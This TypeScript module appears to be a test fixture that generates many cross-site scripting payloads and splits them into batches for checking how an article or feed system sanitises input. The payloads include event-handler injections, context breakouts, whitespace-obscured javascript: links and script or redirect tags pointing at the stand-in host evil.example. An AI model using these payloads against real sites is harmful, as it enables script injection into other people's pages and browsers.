/** Texts that try to become markup: elements and handlers, and links with odd white space, each written in several ways. */
import { readFileSync } from 'node:fs';

const ELEMENTS: readonly (readonly [name: string, attributes: string, handlers: readonly string[]])[] = [
  ['script', 'src=//evil.example/x.js', ['onload', 'onerror']],
  ['img', 'src=x', ['onerror', 'onload', 'onclick']],
  ['svg', 'width=9', ['onload', 'onclick', 'onfocusin']],
  ['iframe', 'srcdoc="<script>alert(1)</script>"', ['onload', 'onmouseover']],
  ['object', 'data=x', ['onerror', 'onload']],
  ['embed', 'src=x', ['onload', 'onerror']],
  ['form', 'action=//evil.example', ['onsubmit', 'onreset', 'oninput']],
  ['input', 'autofocus', ['onfocus', 'onblur', 'onchange']],
  ['button', 'formaction=javascript:alert(1)', ['onclick', 'onpointerdown']],
  ['textarea', 'autofocus', ['onfocus', 'onselect']],
  ['video', 'src=x', ['onerror', 'oncanplay']],
  ['audio', 'src=x', ['onerror', 'onloadstart']],
  ['details', 'open', ['ontoggle']],
  ['body', 'background=x', ['onload', 'onpageshow', 'onhashchange']],
  ['style', 'media=all', ['onload']],
  ['link', 'rel=stylesheet href=//evil.example', ['onload', 'onerror']],
  ['meta', 'http-equiv=refresh content="0;url=//evil.example"', ['onclick']],
  ['base', 'href=//evil.example', ['onclick']],
  ['math', 'href=javascript:alert(1)', ['onclick', 'onmouseover']],
  ['marquee', 'width=1', ['onstart', 'onbounce']],
  ['template', 'shadowrootmode=open', ['onclick']],
  ['a', 'href=javascript:alert(1)', ['onclick', 'onmouseenter', 'onauxclick']],
  ['b', 'style=position:fixed', ['onclick', 'onanimationstart']],
  ['custom-element', 'is=x', ['onwheel']],
];

/** What breaks out of what a text may stand in. */
const BREAKOUTS = [
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '--><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><svg onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '</description></item><item><title>Another</title></item>',
  '</content:encoded><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}<img src=x onerror=alert(1)>',
];

/** Before, within and after the scheme of an address. */
const SPACES = [
  ...['', ' ', '\t', '&#9;', '&Tab;', '&NewLine;', '&#1;', '&#0;', '&#32;'],
  ...['\u00a0', '\u0085', '\u00ad', '\u1680', '\u180e', '\u2003', '\u200b', '\u200e', '\u2028', '\u2029'],
  ...['\u202f', '\u205f', '\u2060', '\u3000', '\ufeff'],
];
const SCHEMES = ['JaVaScRiPt', 'vbscript', 'data', 'blob', 'view-source:javascript', 'x'];

/** A text as it is, and as archives and programs write it. */
const WRITTEN: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => escapeOnce(markup),
  (markup) => escapeOnce(escapeOnce(markup)),
  (markup) => markup.replace(/[<>"'&]/g, (character) => `&#${character.charCodeAt(0)};`),
  (markup) => markup.replace(/[<>"'&]/g, (character) => `&#x${character.charCodeAt(0).toString(16)}`),
  (markup) => `<![CDATA[${markup}]]>`,
  (markup) => markup.replace(/>$/, ' '),
  (markup) => `Words ${markup.toUpperCase()}`,
];

function matrix(): string[] {
  const elements = ELEMENTS.flatMap(([name, attributes, handlers]) =>
    handlers.map((handler) => `<${name} ${attributes} ${handler}=alert(1)>`),
  );
  const links = SPACES.flatMap((space) => [
    `<a href="${space}javascript:alert(1)">x</a>`,
    `<a href="java${space}script${space}:alert(1)">x</a>`,
    `<a title='x' href='${space}${space}javascript:alert(1)'>x</a>`,
  ]);
  const schemes = SCHEMES.map((scheme) => `<a href="\u00a0${scheme}:alert(1)">x</a>`);
  return [...elements, ...BREAKOUTS, ...links, ...schemes].flatMap((markup) =>
    WRITTEN.map((write) => write(markup)),
  );
}

function escapeOnce(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
}

/** A file with a list of other texts in JSON. */
const FILE = process.env['MARKUP_PAYLOADS'];

/** The texts that inputs take, each once: with letters, without control characters, and not too long for a request. */
export const PAYLOADS: readonly string[] = [
  ...new Set(
    (FILE === undefined ? matrix() : (JSON.parse(readFileSync(FILE, 'utf8')) as string[]))
      .map((text) => text.replace(/\p{Cc}|\p{Cs}/gu, ' ').trim())
      .filter((text) => /\p{L}/u.test(text) && text.length <= 10_000),
  ),
];

/** As many texts, and characters, as an article takes in all of its fields, since a request has 100 kB. */
const PART = { texts: 60, characters: 4_000 };

/** The texts in parts. */
export const PARTS: readonly (readonly string[])[] = PAYLOADS.reduce<string[][]>((parts, text) => {
  const last = parts.at(-1);
  const isFull =
    last === undefined || last.length === PART.texts || last.join('').length + text.length > PART.characters;
  if (isFull) parts.push([text]);
  else last.push(text);
  return parts;
}, []);
